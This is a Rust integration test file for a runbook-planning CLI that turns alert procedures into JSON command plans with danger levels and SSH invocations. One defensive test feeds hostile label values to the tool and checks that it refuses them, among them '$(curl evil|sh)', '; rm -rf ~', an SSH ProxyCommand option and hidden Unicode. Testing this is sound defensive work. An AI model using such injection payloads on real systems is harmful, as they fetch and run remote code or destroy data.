//! `wardroom runbook plan` on the owner's own files, run as a user runs it.

use std::fs;
use std::path::Path;
use std::process::{Command, Output, Stdio};

use serde_json::Value;
use tempfile::TempDir;

const MAPS: [&str; 5] =
    ["10.0.0.21={target}", "10.0.0.10=pve.lan", "10.0.0.11=mon.lan", "10.0.0.15=pbs.lan", "10.0.0.1=fw.lan"];

fn run(arguments: &[&str], config: Option<&str>) -> Output {
    let home = TempDir::new().expect("a directory");
    let mut command = Command::new(env!("CARGO_BIN_EXE_wardroom"));
    command
        .args(["runbook", "plan"])
        .args(arguments)
        .env_clear()
        .env("HOME", home.path())
        .stdin(Stdio::null());
    if let Some(config) = config {
        let file = home.path().join("w.toml");
        fs::write(&file, config).expect("written");
        command.arg("--config").arg(file);
    }
    command.output().expect("the program runs")
}

fn owner(name: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(format!("tests/owner/{name}.md")).display().to_string()
}

fn conforms(output: &Output) -> Value {
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let plan: Value = serde_json::from_slice(&output.stdout).expect("JSON alone on stdout");
    let file = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/schemas/runbook-plan.json");
    let schema: Value = serde_json::from_str(&fs::read_to_string(file).expect("the schema")).expect("JSON");
    let schema = jsonschema::validator_for(&schema).expect("a schema");
    let faults: Vec<String> =
        schema.iter_errors(&plan).map(|fault| format!("{}: {fault}", fault.instance_path())).collect();
    assert!(faults.is_empty(), "{faults:#?}");
    plan
}

/// The plan of a procedure of the owner's main runbook, with every host mapped.
fn planned(alert: &str, more: &[&str]) -> Vec<Value> {
    let file = owner("observability");
    let mut arguments = vec!["--file", &file, "--alert", alert, "--format", "json"];
    arguments.extend(MAPS.iter().flat_map(|map| ["--host-map", map]));
    arguments.extend(more);
    groups(&conforms(&run(&arguments, None)))
}

fn groups(plan: &Value) -> Vec<Value> {
    plan["groups"].as_array().expect("groups").clone()
}

/// What matters of a group, in one line.
fn line(group: &Value) -> String {
    let text = |value: &Value| value.as_str().unwrap_or("-").to_owned();
    format!(
        "{} {} {} {}@{} {} | {}",
        group["lines"][0],
        text(&group["danger"]["level"]),
        text(&group["mode"]),
        text(&group["host"]["user"]),
        text(&group["host"]["resolved"]),
        text(&group["host"]["provenance"]),
        text(&group["final"]).replace("\\\n ", ""),
    )
}

fn lines(groups: &[Value]) -> Vec<String> {
    groups.iter().map(line).collect()
}

const INSTANCE: [&str; 2] = ["--label", "instance=10.0.0.25:9100"];

#[test]
fn a_host_that_is_down() {
    let groups = planned("HostDown", &[INSTANCE.as_slice(), &["--set", "VMID=102"]].concat());
    assert_eq!(
        lines(&groups),
        [
            "99 L0 capture -@localhost local | ping -c 4 10.0.0.25",
            "103 L0 follow admin@fw.lan switched | ping 10.0.0.25",
            "112 L0 capture admin@10.0.0.25 switched | sudo systemctl status node_exporter",
            "126 L0 capture admin@mon.lan switched | nc -zv 10.0.0.25 9100",
            "152 L1 capture root@pve.lan switched | qm start 102",
            "155 L0 follow root@pve.lan switched | watch -n 5 'qm status 102'",
            "158 L0 capture admin@10.0.0.25 explicit | systemctl is-active node_exporter",
            "164 L1 capture -@10.0.0.25 target | sudo systemctl restart node_exporter",
            "167 L0 capture -@10.0.0.25 target | sudo systemctl status node_exporter",
            "170 L0 capture -@10.0.0.25 target | curl http://localhost:9100/metrics | head -20",
            "173 L1 capture -@10.0.0.25 target | sudo systemctl enable node_exporter",
            "179 L0 capture -@10.0.0.25 target | sudo ufw status numbered",
            "182 L1 capture -@10.0.0.25 target | sudo ufw allow from mon.lan to any port 9100 proto tcp",
            "185 L0 capture -@localhost local | curl http://10.0.0.25:9100/metrics",
        ]
    );
    assert!(groups.iter().all(|group| group["procedure"] == "alert-hostdown"));
    assert_eq!(groups[0]["title"], "Check if host is pingable");
    assert_eq!(groups[3]["expectation"], "Expected: \"Connection succeeded\"");
    assert_eq!(groups[0]["step"], 1);
    assert_eq!(groups[4]["scenario"], "A");
    assert_eq!(groups[4]["placeholders"][0]["origin"], "operator");
    let argv = |at: usize| groups[at]["argv"].as_array().expect("words").clone();
    assert_eq!(argv(0), ["bash", "--noprofile", "--norc", "-c", "ping -c 4 10.0.0.25"]);
    let expected: Vec<&str> = "ssh -T -o BatchMode=yes -o ConnectTimeout=5 -o ServerAliveInterval=5 -o ServerAliveCountMax=3 \
         -o StrictHostKeyChecking=yes -o ForwardAgent=no -o ClearAllForwardings=yes -o PermitLocalCommand=no -- root@pve.lan"
        .split(' ')
        .collect();
    let ssh = argv(5);
    assert_eq!(ssh[..expected.len()], expected);
    assert_eq!(ssh[expected.len()..], [r"exec bash -c 'watch -n 5 '\''qm status 102'\'''"]);
}

#[test]
fn without_a_label_and_a_map_nothing_of_the_documents_hosts_is_reached() {
    let file = owner("observability");
    for alert in ["HostDown", "HighCPUUsage", "DiskSpaceLow", "BackupJobFailed"] {
        let plan = conforms(&run(&["--file", &file, "--alert", alert, "--format", "json"], None));
        for group in groups(&plan) {
            let text = group["template"].as_str().expect("a text");
            let is_remote = group["host"]["provenance"] != "local";
            assert!(!is_remote || group["argv"].is_null(), "{}", line(&group));
            assert!(!text.contains("10.0.0.") || group["final"].is_null(), "{}", line(&group));
            assert!(group["final"].as_str().is_none_or(|text| !text.contains('<')), "{}", line(&group));
        }
    }
}

#[test]
fn a_processor_that_is_busy() {
    let groups = planned("HighCPUUsage", &[INSTANCE.as_slice(), &["--set", "PROCESS_ID=4242"]].concat());
    let told = lines(&groups);
    for expected in [
        "220 L0 capture admin@10.0.0.25 switched | top -bn 2 -d 1 | grep \"Cpu(s)\" | tail -1",
        "229 L0 capture admin@10.0.0.25 inherited | uptime",
        "246 L0 capture -@localhost local | sum by(mode) (irate(node_cpu_seconds_total{instance=\"10.0.0.25:9100\"}[5m]))",
        "272 L1 capture -@localhost local | amtool silence add alertname=\"HighCPUUsage\" instance=\"10.0.0.25:9100\" --duration=2h --comment=\"Nightly backup in progress\"",
        "287 L1 capture -@10.0.0.25 target | PID=4242\nsudo kill -15 $PID",
        "292 L2 capture -@10.0.0.25 target | PID=4242\nsudo kill -9 $PID",
        "295 L1 capture -@10.0.0.25 target | -",
        "309 L2 capture root@pve.lan switched | -",
    ] {
        assert!(told.iter().any(|line| line == expected), "{expected}\n{told:#?}");
    }
    let options: Vec<&Value> = groups
        .iter()
        .filter(|group| group["choice"].as_str().is_some_and(|one| one.starts_with("Option")))
        .collect();
    assert_eq!(options.len(), 5, "kill, sleep, ps; kill -9; restart");
    assert!(
        options.iter().all(|group| group["alternative_of"] == options[0]["alternative_of"]
            && !group["alternative_of"].is_null())
    );
    let open = groups.iter().find(|group| group["lines"][0] == 295).expect("the third option");
    assert_eq!(
        open["placeholders"][0],
        serde_json::json!({ "name": "SERVICE_NAME", "kind": "unit", "value": null, "origin": null })
    );
    assert!(open["refusals"][0].as_str().is_some_and(|told| told.contains("<SERVICE_NAME> is open")));
    assert!(
        groups[0]["placeholders"].as_array().is_some_and(|all| all
            .iter()
            .any(|one| one["name"] == "TARGET_HOST" && one["origin"] == "label"))
    );
}

#[test]
fn a_disk_that_is_full() {
    let groups = planned("DiskSpaceLow", &INSTANCE);
    let levels: Vec<(u64, &str)> = groups
        .iter()
        .map(|group| {
            (group["lines"][0].as_u64().expect("a line"), group["danger"]["level"].as_str().expect("a level"))
        })
        .collect();
    assert_eq!(
        levels,
        [
            (340, "L0"),
            (343, "L0"),
            (355, "L1"),
            (356, "L2"),
            (359, "L2"),
            (362, "L3"),
            (363, "L3"),
            (366, "L1"),
            (367, "L2"),
            (373, "L0"),
            (376, "L0"),
            (377, "L0"),
            (380, "L2"),
            (388, "L0"),
            (393, "L2"),
            (394, "L2"),
            (395, "L1"),
            (396, "L1"),
            (399, "L3"),
            (405, "L0"),
            (413, "L3"),
            (416, "L1"),
            (431, "L0"),
            (434, "L2"),
            (437, "L3"),
            (440, "L3"),
            (443, "L3"),
        ]
    );
    let at = |line: u64| groups.iter().find(|group| group["lines"][0] == line).expect("a group");
    assert_eq!(at(355)["alternative_of"], at(356)["alternative_of"], "one per system");
    assert_eq!(at(416)["mode"], "handoff");
    assert!(at(416)["argv"].as_array().is_some_and(|argv| argv[1] == "-tt"), "an editor gets a terminal");
    assert_eq!(at(343)["causes"].as_array().map(Vec::len), Some(4));
    for line in [388, 393, 394, 395, 396, 399] {
        assert_eq!(at(line)["host"]["resolved"], "mon.lan", "all of it on one host: {line}");
    }
}

#[test]
fn a_backup_that_failed() {
    let groups = planned("BackupJobFailed", &["--label", "vmid=102"]);
    let told = lines(&groups);
    for expected in [
        "472 L0 capture root@pve.lan switched | cat /var/log/vzdump/102.log | tail -50",
        "478 L0 capture root@pve.lan inherited | grep -i \"error\\|fail\" /var/log/vzdump/*.log",
        "481 L0 capture root@pve.lan inherited | ping -c 4 pbs.lan",
        "496 L1 capture root@pve.lan inherited | touch /mnt/pbs-storage/test-$(date +%s).txt",
        "515 L0 capture root@pbs.lan switched | proxmox-backup-manager datastore list",
        "532 L0 capture root@pve.lan switched | ping -c 10 pbs.lan",
        "539 L1 capture root@pbs.lan switched | systemctl restart proxmox-backup-proxy",
        "544 L1 capture root@pve.lan switched | vzdump 102 --storage homelab-pbs --mode snapshot",
        "554 L3 capture root@pve.lan inferred | qm unlock 102",
        "560 L0 follow root@pve.lan inferred | tail -f /var/log/vzdump/102.log",
        "574 L2 capture root@pve.lan switched | ./assets/scripts/verify-pbs-backups.sh",
    ] {
        assert!(told.iter().any(|line| line == expected), "{expected}\n{told:#?}");
    }
    let at = |line: u64| groups.iter().find(|group| group["lines"][0] == line).expect("a group");
    assert_eq!((&at(518)["danger"]["level"], &at(518)["lines"][1]), (&"L3".into(), &522.into()));
    for (line, is_known) in [(469, true), (484, true), (518, true), (574, true), (515, false)] {
        assert_eq!(!at(line)["known_wrong"].is_null(), is_known, "{line}");
    }
    assert!(groups.iter().filter(|group| group["template"] == "").all(|group| group["mode"] == "manual"));
}

#[test]
fn every_procedure_of_every_file_conforms() {
    for name in ["observability", "stack", "reliability", "operations", "restore"] {
        for procedure in super::owner(name).procedures {
            let file = owner(name);
            let output = run(&["--file", &file, "--alert", &procedure.id, "--format", "json"], None);
            let plan = conforms(&output);
            for group in groups(&plan) {
                let runs = group["argv"].as_array().map(|argv| argv[0].clone());
                assert!(
                    runs.is_none_or(|first| first == "bash" && group["host"]["provenance"] == "local"),
                    "{}",
                    line(&group)
                );
                assert!(
                    !group["template"]
                        .as_str()
                        .is_some_and(|text| text.trim().starts_with("ssh ") && !text.contains('"')),
                    "{}",
                    line(&group)
                );
            }
        }
    }
}

#[test]
fn what_is_no_shell_or_a_sample_is_refused() {
    let at = |alert: &str, line: u64| {
        let more: &[&str] = &[
            "--label",
            "instance=10.0.0.25:9100",
            "--host-map",
            "10.0.0.20=a",
            "--host-map",
            "10.0.0.25=10.0.0.25",
        ];
        planned(alert, more).into_iter().find(|group| group["lines"][0] == line).expect("a group")
    };
    for (alert, line, told) in [
        ("Adding a New Scrape Target", 839, "YAML"),
        ("Prometheus Not Scraping Targets", 622, "YAML"),
        ("Alertmanager Not Sending Notifications", 698, "sample"),
        ("Grafana Dashboard Shows \"No Data\"", 658, "for a person"),
    ] {
        let group = at(alert, line);
        let refusals = group["refusals"].to_string();
        assert!(refusals.contains(told) && group["argv"].is_null(), "{alert}: {group:#}");
    }
    let restore = planned(
        "Recovering VM from Backup",
        &["--set", "VMID=100", "--set", "NEW_VMID=200", "--set", "TIMESTAMP=2025_11_06-02_00_03"],
    );
    let level = |line: u64| {
        restore.iter().find(|group| group["lines"][0] == line).expect("a group")["danger"]["level"].clone()
    };
    assert_eq!((level(951), level(955), level(958)), ("L3".into(), "L3".into(), "L2".into()));
    let update = planned("Updating Prometheus", &[]);
    let wget = update.iter().find(|group| group["lines"][0] == 754).expect("wget");
    assert!(
        wget["final"].as_str().is_some_and(|text| text.starts_with("cd /tmp || exit\nwget https://")),
        "{wget:#}"
    );
}

#[test]
fn a_script_that_cannot_be_read_says_why_it_does_not_run() {
    let room = TempDir::new().expect("a directory");
    let file = room.path().join("own.md");
    let text = "# Own\n\n### Alert: Torn\n\n#### Immediate Actions\n\n<!-- host: local -->\n\
        ~~~bash\n#!/usr/bin/env bash\necho `date\n~~~\n";
    fs::write(&file, text).expect("written");
    let file = file.display().to_string();
    let plan = conforms(&run(&["--file", &file, "--alert", "Torn", "--format", "json"], None));
    let torn = groups(&plan);
    let [torn] = torn.as_slice() else { panic!("one group: {plan:#}") };
    assert!(torn["argv"].is_null(), "{torn:#}");
    assert!(
        torn["refusals"][0].as_str().is_some_and(|told| told.starts_with("it cannot be read: ")),
        "{torn:#}"
    );
}

#[test]
fn hostile_labels_are_refused() {
    for instance in [
        "10.0.0.21:9100; rm -rf ~",
        "$(curl evil|sh)",
        "`id`",
        "-oProxyCommand=touch x",
        "a;touch x",
        "10.0.0.25\n:9100",
        "\u{440}rometheus:9090",
        "abc\u{202e}x:1",
        "\u{1b}[2J",
        "up\"} or on() vector(1) #",
    ] {
        let label = format!("instance={instance}");
        for alert in ["HostDown", "HighCPUUsage"] {
            for group in planned(alert, &["--label", &label]) {
                let shown = group.to_string();
                let is_needed = group["host"]["provenance"] == "target"
                    || group["template"].as_str().is_some_and(|text| text.contains("TARGET"));
                assert!(!is_needed || group["final"].is_null(), "{instance:?}: {}", line(&group));
                assert!(!shown.contains('\u{202e}') && !shown.contains("\\u001b"), "nothing hides: {shown}");
                let words = group["argv"].to_string() + &group["final"].to_string();
                assert!(
                    !words.contains("evil") && !words.contains("touch x") && !words.contains("rm -rf"),
                    "{words}"
                );
            }
        }
    }
    for vmid in ["--mode=stop", "-rf", "100\nrm -rf /", "100; reboot", "*", "..", "", "<VMID>", "9"] {
        for group in planned("HostDown", &["--label", &format!("vmid={vmid}")]) {
            let needs = group["template"].as_str().is_some_and(|text| text.contains("<VMID>"));
            assert!(!needs || group["final"].is_null(), "{vmid:?}: {}", line(&group));
        }
    }
}

#[test]
fn the_config_knows_the_hosts() {
    let config = "[hosts.web]\naddresses = [\"10.9.0.25\"]\nvmid = 102\nssh_user = \"sam\"\n\
        [hosts.pve]\naddresses = [\"10.9.0.10\"]\nrole = \"proxmox\"\nprotected = true\n\
        [hosts.old]\naddresses = [\"10.0.0.11\"]\nshell = \"fish\"\n\
        [runbooks.hosts]\n\"10.0.0.21\" = \"{target}\"\n\"10.0.0.10\" = \"pve\"\n\
        [runbooks.placeholders.SERVICE_NAME]\nkind = \"any\"\nsource = \"value:it's\"\n";
    let file = owner("observability");
    let plan = |instance: &str, alert: &str| {
        let label = format!("instance={instance}");
        groups(&conforms(&run(
            &["--file", &file, "--alert", alert, "--label", &label, "--format", "json"],
            Some(config),
        )))
    };
    let told = lines(&plan("10.9.0.25:9100", "HostDown"));
    for expected in [
        "99 L0 capture -@localhost local | ping -c 4 10.9.0.25",
        "152 L2 capture root@10.9.0.10 switched | qm start 102",
        "155 L0 follow root@10.9.0.10 switched | watch -n 5 'qm status 102'",
        "164 L1 capture sam@10.9.0.25 target | sudo systemctl restart node_exporter",
        "126 L0 capture admin@10.0.0.11 switched | -",
    ] {
        assert!(told.iter().any(|line| line == expected), "{expected}\n{told:#?}");
    }
    let told = lines(&plan("10.9.0.25:9100", "HighCPUUsage"));
    assert!(told.iter().any(|line| line.ends_with(r"| sudo systemctl restart 'it'\''s'")), "{told:#?}");
    let strange = plan("10.9.0.99:9100", "HostDown");
    let restart = strange.iter().find(|group| group["lines"][0] == 164).expect("the restart");
    assert!(restart["refusals"][0].as_str().is_some_and(|told| told.contains("R4")), "{restart:#}");
}

#[test]
fn usage_and_failures_have_their_exit_codes() {
    let file = owner("observability");
    for (arguments, code) in [
        (vec!["--file", &file, "--alert", "HostDown"], 0),
        (vec!["--file", &file, "--alert", "host_down"], 0),
        (vec!["--file", &file, "--alert", "Nothing"], 1),
        (vec!["--file", "/nonexistent.md", "--alert", "HostDown"], 1),
        (vec!["--file", &file, "--alert", "HostDown", "--scenario", "Z"], 2),
        (vec!["--file", &file, "--alert", "HostDown", "--label", "x"], 2),
        (vec!["--file", &file, "--alert", "HostDown", "--host-map", "a=-oX"], 2),
        (vec!["--alert", "HostDown"], 2),
        (vec!["--file", &file], 2),
    ] {
        assert_eq!(run(&arguments, None).status.code(), Some(code), "{arguments:?}");
    }
    assert_eq!(
        run(&["--file", &file, "--alert", "HostDown"], Some("[hosts.x]\nrolle = \"y\"\n")).status.code(),
        Some(2)
    );
    let only = planned("HostDown", &["--scenario", "B"]);
    assert!(
        only.iter().all(|group| group["scenario"] == "B" || group["scenario"].is_null())
            && only.iter().any(|group| group["scenario"] == "B")
    );
}
